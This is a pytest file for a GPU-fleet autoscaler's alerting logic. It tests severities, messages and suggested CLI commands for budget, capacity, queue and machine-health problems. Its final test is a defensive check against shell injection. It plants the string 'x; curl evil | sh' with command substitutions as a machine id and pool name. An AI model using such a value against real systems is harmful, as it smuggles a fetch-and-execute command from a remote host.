"""What a person is told of, how urgently, in which words, and with which command."""

from __future__ import annotations

import shlex
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import click
import pytest

from autoscaler.cli import main
from autoscaler.core.decision import Action, Command, Decision, Reason
from autoscaler.core.demand import AgeSource, Demand, Pending, TierDemand, Unknown
from autoscaler.core.diagnosis import ImageHistory
from autoscaler.core.instance import Instance
from autoscaler.core.ledger import DayLedger, Spent, day_of
from autoscaler.core.lifecycle import Phase
from autoscaler.core.orders import Order, OrderKind, Orders
from autoscaler.core.signal import Fall, Signal
from autoscaler.core.spec import Cap, FleetLimits, Health, Limits, Placement, Pool
from autoscaler.core.utilisation import Use
from autoscaler.runtime.concerns import Concern, Name, Severity, concerns
from autoscaler.runtime.report import Account, PoolReport, TickReport
from tests.support.build import pool
from tests.support.market import CALM
from tests.support.rehearsal import HOUR, Rehearsal
from tests.support.reports import DEMAND, NOW, POOL, RENT, listing, machine, pool_report, report

ENOUGH = Decision(hot=0, warm=0)


def a_pool(*instances: Instance, decision: Decision = ENOUGH, spec: Pool = POOL, **snapshot: Any) -> PoolReport:
    """A pool that needs nobody."""
    quiet = pool_report(*instances, pool=spec, commands=())
    return replace(quiet, decision=decision, snapshot=replace(quiet.snapshot, **snapshot))


def tick(*instances: Instance, pool: PoolReport | None = None, **changes: Any) -> TickReport:
    """A tick that needs nobody unless its machines or changes do."""
    return report(*instances, **({"pools": {"images": pool or a_pool(*instances)}} | changes))


def found(report: TickReport, *, error: str | None = None) -> list[Concern]:
    return concerns(report, error=error, now=NOW)


def only(report: TickReport, *, error: str | None = None) -> Concern:
    [concern] = found(report, error=error)
    return concern


def waits(wait_s: float, tier: str = "pro") -> Demand:
    return Demand(
        taken_at=NOW, tiers=(TierDemand(tier=tier, waiting=7, oldest_wait_s=wait_s, age_source=AgeSource.EXACT),)
    )


def capped(limits: Limits, day: float = 0.0, month: float = 0.0, forecast: float | None = None) -> PoolReport:
    pool = a_pool(spec=replace(POOL, limits=limits), spent_month_usd=month, forecast_usd=forecast)
    return replace(pool, spent_today=replace(pool.spent_today, running_usd=day, stopped_usd=0.0))


def test_a_fleet_that_is_well_needs_nobody() -> None:
    assert found(tick(machine(), machine("m2", Phase.WARM))) == []


# --- the daemon -------------------------------------------------------------------------------------------------------


def test_a_tick_that_failed_is_critical_and_says_why() -> None:
    concern = only(tick(), error="Redis did not answer")
    assert (concern.name, concern.severity) == (Name.TICK_FAILING, Severity.CRITICAL)
    assert "Redis did not answer" in concern.text


def test_a_tick_that_failed_where_another_daemon_led_says_nothing_of_what_that_one_does() -> None:
    standby = TickReport(at=NOW, duration_s=0.1, leads=False, leaders={"images": "another"})
    concern = only(standby, error="Redis does not answer")
    assert concern.text == "the newest tick failed, so this daemon could not take over: Redis does not answer"


def test_a_pool_that_nobody_leads_is_critical_and_one_led_elsewhere_is_not() -> None:
    concern = only(tick(leaders={"images": "me", "llm": "you", "video": ""}))
    assert (concern.name, concern.severity, concern.pool) == (Name.NO_LEADER, Severity.CRITICAL, "video")


@pytest.mark.parametrize(
    ("pool", "unpause"), [("", "autoscaler unpause FILE"), ("images", "autoscaler unpause FILE --pool images")]
)
def test_a_pause_is_told_but_alarms_nobody(pool: str, unpause: str) -> None:
    pause = Order(kind=OrderKind.PAUSE, subject=pool, by="ann", at=NOW)
    concern = only(tick(orders=Orders(standing=(pause,))))
    assert (concern.name, concern.severity, concern.pool) == (Name.PAUSED, Severity.INFO, pool)
    assert "ann" in concern.text
    assert concern.command == unpause


# --- the queue --------------------------------------------------------------------------------------------------------


def test_a_queue_that_cannot_be_read_is_critical_and_says_nothing_of_waits() -> None:
    concern = only(tick(pool=a_pool(demand=Unknown("NOPERM", NOW - 50))))
    assert (concern.name, concern.severity) == (Name.QUEUE_UNKNOWN, Severity.CRITICAL)
    assert "NOPERM" in concern.text


def test_a_fall_that_nothing_explains_is_a_warning() -> None:
    fall = Fall(at=NOW, within_s=10.0, before=1000, after=0, most=30, slots=3)
    concern = only(tick(pool=a_pool(signal=Signal(fall=fall))))
    assert (concern.name, concern.severity) == (Name.QUEUE_DOUBTED, Severity.WARNING)


@pytest.mark.parametrize(
    ("wait_s", "severity"),
    [(30.0, None), (30.1, Severity.WARNING), (60.0, Severity.WARNING), (60.1, Severity.CRITICAL)],
)
def test_a_wait_is_held_against_its_tiers_target(wait_s: float, severity: Severity | None) -> None:
    told = found(tick(pool=a_pool(demand=waits(wait_s))))
    assert [(each.name, each.severity, each.subject) for each in told] == (
        [(Name.WAIT_TARGET_MISSED, severity, "pro")] if severity else []
    )
    assert found(tick(pool=a_pool(demand=waits(wait_s, "free")))) == []


def test_a_wait_of_a_tier_that_has_no_target_is_no_concern() -> None:
    assert found(tick(pool=a_pool(demand=waits(9999.0, "unheard-of")))) == []


# --- capacity ---------------------------------------------------------------------------------------------------------

SHORT = Decision(hot=2, warm=0, why_not=(Reason("plan.rent", "mock-spot: no offer at or below 0.5 USD/h"),))


@pytest.mark.parametrize(("up", "severity"), [([machine()], Severity.WARNING), ([], Severity.CRITICAL)])
def test_machines_that_cannot_be_had_are_told_with_the_reason(up: list[Instance], severity: Severity) -> None:
    concern = only(tick(*up, pool=a_pool(*up, decision=SHORT)))
    assert (concern.name, concern.severity) == (Name.CAPACITY_SHORT, severity)
    assert "no offer at or below 0.5 USD/h" in concern.text
    assert f"2 machines wanted, {len(up)} up" in concern.text


def test_what_is_not_done_for_other_reasons_is_no_lack_of_capacity() -> None:
    reasons = (Reason("plan.stop", "it is busy"),)
    assert "it is busy" not in only(tick(pool=a_pool(decision=replace(SHORT, why_not=reasons)))).text


@pytest.mark.parametrize(
    "pool",
    [
        replace(a_pool(decision=SHORT), commands=(RENT,)),
        replace(a_pool(decision=SHORT), commands=(Command(action=Action.RESUME, pool="images", reason=""),)),
        a_pool(decision=replace(SHORT, hold_up=True)),
        a_pool(decision=SHORT, offers={"mock-spot": Pending("asked", NOW - 1)}),
        a_pool(machine(), machine("m2", Phase.BOOTING), decision=SHORT),
    ],
    ids=["one is rented", "one is resumed", "none may be started", "offers are being asked for", "one is on its way"],
)
def test_machines_that_are_coming_or_not_to_come_are_not_missed(pool: PoolReport) -> None:
    assert found(tick(pool=pool)) == []


async def test_a_daemon_whose_market_has_nothing_it_may_pay_says_that_capacity_is_short() -> None:
    dear = pool(placements=(Placement(provider="mock", max_usd_per_hour=0.01),))
    world = Rehearsal(CALM, pools=[dear])
    daemon = world.daemon()
    await daemon.live(HOUR / 6)
    concern = only(daemon.report)
    await daemon.stop()
    assert concern.name is Name.CAPACITY_SHORT
    assert "no offer at or below 0.01 USD/h" in concern.text


# --- money ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("day", "name"), [(19.99, None), (20.0, Name.BUDGET_NEAR), (29.99, Name.BUDGET_NEAR), (30.0, Name.BUDGET_SPENT)]
)
def test_a_day_is_told_of_at_its_warning_and_at_its_stop(day: float, name: Name | None) -> None:
    told = found(tick(pool=capped(Limits(), day=day)))
    assert [each.name for each in told] == ([name] if name else [])


def test_a_month_is_held_to_its_own_cap() -> None:
    concern = only(tick(pool=capped(Limits(usd_per_month=Cap(warn=400, stop=600)), month=600.0)))
    assert (concern.name, concern.subject, concern.severity) == (
        Name.BUDGET_SPENT,
        "usd_per_month",
        Severity.CRITICAL,
    )


def test_the_fleets_cap_counts_all_pools() -> None:
    limits = FleetLimits(usd_per_day=Cap(warn=35, stop=50))
    pools = {"images": capped(Limits(), day=18.0), "llm": capped(Limits(), day=18.0)}
    concern = only(tick(pools=pools, limits=limits))
    assert (concern.name, concern.pool) == (Name.BUDGET_NEAR, "")
    assert "the fleet: 36.00 USD" in concern.text


def test_the_fleets_cap_counts_what_a_pool_cost_that_left_the_configuration_today() -> None:
    limits = FleetLimits(usd_per_day=Cap(warn=20.0, stop=30.0))
    spent = {"former": Spent(running_usd=12.0), "led_elsewhere": Spent(running_usd=50.0)}
    books = {day_of(NOW): DayLedger(day=day_of(NOW), booked_until=NOW, pools=spent)}
    leaders = {"images": "this one", "led_elsewhere": "another"}
    concern = only(tick(pool=capped(Limits(), day=9.0), limits=limits, books=books, leaders=leaders))
    assert (concern.name, concern.pool) == (Name.BUDGET_NEAR, "")
    assert "21.00 USD spent today" in concern.text


@pytest.mark.parametrize(("month", "forecast", "told"), [(100, 401, 1), (100, 400, 0), (100, None, 0), (400, 900, 0)])
def test_a_forecast_is_told_of_until_the_warning_itself_is_due(month: float, forecast: float | None, told: int) -> None:
    pool = capped(Limits(usd_per_month=Cap(warn=400, stop=900)), month=month, forecast=forecast)
    names = [each.name for each in found(tick(pool=pool))]
    assert names.count(Name.FORECAST_OVER_BUDGET) == told


@pytest.mark.parametrize(("usd", "told"), [(9.59, True), (9.61, False), (None, False)])
def test_an_account_that_lasts_less_than_a_day_is_critical(usd: float | None, told: bool) -> None:
    accounts = {"mock": Account(balance_usd=usd)}
    names = [(each.name, each.severity) for each in found(tick(machine(), accounts=accounts))]
    assert names == ([(Name.BALANCE_LOW, Severity.CRITICAL)] if told else [])


def test_an_account_pays_for_all_that_is_listed_there_other_daemons_machines_among_it() -> None:
    there = listing("m1", "of_another_daemon")
    there = replace(there, machines=tuple(replace(each, burn_usd_per_hour=0.4) for each in there.machines))
    accounts = {"mock": Account(balance_usd=20.0)}
    assert "at 1.20 USD/h" in only(tick(machine(), accounts=accounts, listings={"mock": there})).text


def test_an_account_in_debt_where_nothing_runs_ends_nothing() -> None:
    assert found(tick(accounts={"mock": Account(balance_usd=-3.0)})) == []


def test_a_provider_that_cannot_be_listed_is_told_with_what_runs_there() -> None:
    concern = only(tick(machine(), machine("m2"), listings={"mock": Unknown("HTTP 500", NOW - 60)}))
    assert (concern.name, concern.subject) == (Name.PROVIDER_FAILING, "mock")
    assert "0.80 USD/h" in concern.text
    assert "HTTP 500" in concern.text


def test_a_listing_that_may_come_any_moment_is_no_failure() -> None:
    assert found(tick(listings={"mock": Pending("asked", NOW - 1)})) == []


# --- machines ---------------------------------------------------------------------------------------------------------


def test_a_machine_of_no_pool_is_critical_and_told_with_what_it_costs() -> None:
    concern = only(tick(machine(pool="typo")))
    assert (concern.name, concern.severity) == (Name.MACHINE_UNKNOWN, Severity.CRITICAL)
    assert "0.400 USD/h, 0.40 USD so far" in concern.text


def test_a_rent_whose_answer_is_awaited_is_no_unknown_machine() -> None:
    under_way = machine(phase=Phase.PLANNED, provider_id=None)
    assert found(tick(under_way, listings={"mock": listing("m1")})) == []


@pytest.mark.parametrize(("burn", "severity"), [(0.4, Severity.CRITICAL), (0.0, Severity.WARNING)])
def test_a_stuck_machine_is_critical_while_it_bills(burn: float, severity: Severity) -> None:
    concern = only(
        tick(machine(phase=Phase.DRAINING, alarmed=True, burn_usd_per_hour=burn, reason="still draining after 30m"))
    )
    assert (concern.name, concern.severity) == (Name.PHASE_STUCK, severity)
    assert "draining for 1h" in concern.text
    assert "still draining after 30m" in concern.text


def test_a_machine_that_is_released_already_is_not_to_be_released_again() -> None:
    assert "release" not in only(tick(machine(phase=Phase.RELEASING, alarmed=True))).command


def test_a_lost_machine_is_down_and_not_degraded_as_well() -> None:
    concern = only(tick(machine(phase=Phase.LOST, ailment="silent", reason="listed no more")))
    assert (concern.name, concern.severity) == (Name.MACHINE_DOWN, Severity.CRITICAL)


def test_a_machine_that_is_not_well_is_a_warning_while_it_serves() -> None:
    concern = only(tick(machine(ailment="its worker has fallen silent")))
    assert (concern.name, concern.severity) == (Name.MACHINE_DEGRADED, Severity.WARNING)
    assert found(tick(machine(phase=Phase.DRAINING, ailment="its worker has fallen silent"))) == []


@pytest.mark.parametrize(
    ("use", "severity", "words"),
    [
        (Use.LOW, Severity.WARNING, "less than 20% of its GPU for 1h"),
        (Use.IDLE, Severity.CRITICAL, "less than 7% of its GPU for 3h"),
    ],
)
def test_an_idle_gpu_is_told_with_its_share_since_when_and_its_price(use: Use, severity: Severity, words: str) -> None:
    spec = replace(POOL, health=Health(idle_gpu=0.07, idle_gpu_for=3 * 3600.0))
    concern = only(tick(machine(gpu_use=use), pool=a_pool(spec=spec)))
    assert (concern.name, concern.severity) == (Name.GPU_UNUSED, severity)
    assert words in concern.text
    assert "0.400 USD/h" in concern.text


def test_a_gpu_that_has_nothing_to_do_because_its_machine_drains_is_no_concern() -> None:
    assert found(tick(machine(phase=Phase.DRAINING, gpu_use=Use.IDLE))) == []


def test_a_standby_that_does_not_come_back_is_told_with_what_it_has_cost() -> None:
    warm = machine(phase=Phase.WARM, refusals=3, usd_spent=1.2, burn_usd_per_hour=0.02, disk_usd_per_hour=0.02)
    concern = only(tick(warm))
    assert (concern.name, concern.severity) == (Name.STANDBY_LOST, Severity.WARNING)
    assert "refused 3 times in a row" in concern.text
    assert "1.22 USD so far" in concern.text
    assert found(tick(replace(warm, refusals=2))) == []


def test_a_machine_that_is_gone_is_no_concern_whatever_was_wrong_with_it() -> None:
    gone = machine(phase=Phase.GONE, alarmed=True, ailment="silent", gpu_use=Use.IDLE, refusals=9, pool="typo")
    assert found(tick(gone)) == []


def test_an_image_that_is_given_up_is_critical() -> None:
    concern = only(tick(pool=a_pool(image=ImageHistory(crashed={"h1": NOW, "h2": NOW}))))
    assert (concern.name, concern.severity) == (Name.IMAGE_GIVEN_UP, Severity.CRITICAL)


# --- all of them ------------------------------------------------------------------------------------------------------


def everything() -> list[Concern]:
    """One of each."""
    sick = [
        machine("a", phase=Phase.DRAINING, alarmed=True),
        machine("b", phase=Phase.LOST),
        machine("c", ailment="silent", gpu_use=Use.IDLE),
        machine("d", phase=Phase.WARM, refusals=3),
        machine("e", pool="typo"),
        machine("f", phase=Phase.RELEASING, alarmed=True),
    ]
    fall = Fall(at=NOW, within_s=10.0, before=1000, after=0, most=30, slots=3)
    month = Limits(usd_per_month=Cap(warn=400, stop=600))
    pools: Mapping[str, PoolReport] = {
        "images": a_pool(demand=waits(31.0), signal=Signal(fall=fall), decision=SHORT),
        "llm": a_pool(demand=Unknown("NOPERM", NOW), image=ImageHistory(crashed={"h1": NOW, "h2": NOW})),
        "near": capped(month, day=20.0, forecast=500.0),
        "spent": capped(Limits(), day=30.0),
    }
    orders = Orders(standing=(Order(kind=OrderKind.PAUSE, by="ann", at=NOW),))
    return found(
        tick(
            *sick,
            pools=pools,
            orders=orders,
            leaders={"images": ""},
            listings={"mock": Unknown("HTTP 500", NOW)},
            accounts={"mock": Account(balance_usd=1.0)},
        ),
        error="away",
    )


def test_there_is_a_case_for_every_name() -> None:
    assert {concern.name for concern in everything()} == set(Name)


def test_the_worst_comes_first() -> None:
    order = [concern.severity for concern in everything()]
    assert order == sorted(order, key=[Severity.CRITICAL, Severity.WARNING, Severity.INFO].index)


def test_no_two_concerns_of_a_tick_have_one_key() -> None:
    keys = [concern.key for concern in everything()]
    assert len(set(keys)) == len(keys)


@pytest.mark.parametrize("concern", everything(), ids=lambda concern: f"{concern.name} {concern.subject}")
def test_its_command_is_one_that_can_be_typed_and_its_text_is_a_line(concern: Concern) -> None:
    assert "\n" not in concern.text
    program, *words = shlex.split(concern.command)
    assert program == "autoscaler"
    with click.Context(main) as context:
        command = main.get_command(context, words[0])
    assert command is not None, concern.command
    with command.make_context(words[0], words[1:]) as context:
        assert context.params.get("file", Path("FILE")) == Path("FILE"), "else it asks of another daemon than this"


def test_a_demand_that_is_well_is_no_concern() -> None:
    assert found(tick(pool=a_pool(demand=DEMAND))) == []


@pytest.mark.parametrize("changes", [{"alarmed": True}, {"phase": Phase.LOST}, {"ailment": "slow"}, {"refusals": 9}])
def test_no_shell_finds_an_order_in_what_a_label_at_a_vendors_named(changes: dict[str, Any]) -> None:
    hostile = "x; curl evil | sh #$(id)`id`"
    phase = Phase.WARM if "refusals" in changes else Phase.HOT
    record = replace(machine(), **({"id": hostile, "pool": hostile, "phase": phase} | changes))

    orders = [shlex.split(concern.command)[1:] for concern in found(tick(record)) if "reap" not in concern.command]
    assert [words for words in orders if len(words) > 3 or words[1] != hostile] == []
    assert orders
